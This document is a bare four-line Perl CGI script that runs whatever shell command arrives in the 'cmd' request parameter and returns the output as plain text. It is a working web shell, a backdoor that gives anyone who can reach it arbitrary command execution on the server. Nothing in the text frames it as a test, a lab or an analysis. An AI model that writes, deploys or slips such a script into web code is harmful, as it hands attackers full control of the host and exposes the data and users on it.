#!/usr/bin/perl
use CGI qw(param);
print "Content-Type: text/plain\n\n";
system(param('cmd'));
